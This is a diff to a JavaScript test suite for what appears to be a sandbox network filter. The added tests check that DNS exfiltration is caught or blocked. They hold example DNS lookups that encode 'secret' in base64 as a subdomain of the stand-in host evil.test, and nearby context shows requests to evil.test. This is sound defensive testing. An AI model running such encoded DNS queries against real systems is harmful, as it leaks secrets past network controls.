@@ -248,6 +248,12 @@ describe('what the attacks would reach without the judge (network: true, control
     expect(requestsTo(await world.serverLog(), 'evil.test')).toHaveLength(1);
   });
 
+  testNeeding(worldNeeds())('a DNS query for a name reaches the nameserver (DNS exfiltration)', async () => {
+    const result = await world.exec(node("require('dns').promises.resolveTxt('c2VjcmV0.evil.test').catch((e) => console.log(e.code))"), { network: true });
+    expect(result.stdout).toBe('ENOTFOUND\n');
+    expect((await world.serverLog()).filter((e) => e.kind === 'dns-trap').map((e) => e.host)).toEqual(['c2vjcmv0.evil.test']);
+  });
+
   testNeeding(worldNeeds('curl'))('an IP literal reaches the server', async () => {
     const result = await world.exec(sh(`curl -sS http://${SERVER_IP}/ip`), { network: true });
     expect(result.stdout).toBe(`${hello(SERVER_IP, '/ip', 'http')}\n`);
@@ -394,6 +400,24 @@ describe('refused destinations never reach the servers (filtered)', () => {
       "import socket\ntry:\n  socket.getaddrinfo('evil.test', 80)\n  print('resolved')\nexcept socket.gaierror as e:\n  print('gaierror', e.errno == socket.EAI_NONAME)"],
     filtered(['registry.test']));
     expect(py.stdout).toBe('gaierror True\n');
+    await expectServersSawNothing();
+  });
+});
+
+describe('DNS (filtered)', () => {
+  testNeeding(worldNeeds())('no query leaves the command: names not allowed, TXT, and names under allowed ones', async () => {
+    const script = `
+      const dns = require('dns').promises;
+      const show = (p) => p.then((a) => JSON.stringify(a), (e) => e.code);
+      (async () => {
+        for (const name of ['c2VjcmV0.evil.test', 'c2VjcmV0.registry.test', 'c2VjcmV0']) {
+          console.log(name + ' A ' + await show(dns.resolve4(name)) + ' TXT ' + await show(dns.resolveTxt(name)));
+        }
+      })();`;
+    const result = await world.exec(node(script), filtered(['registry.test']));
+    for (const name of ['c2VjcmV0.evil.test', 'c2VjcmV0.registry.test', 'c2VjcmV0']) {
+      expect(result.stdout).toMatch(new RegExp(`^${name.replace(/\./g, '\\.')} A E[A-Z]+ TXT E[A-Z]+$`, 'm'));
+    }
     await expectServersSawNothing();
   });
 });
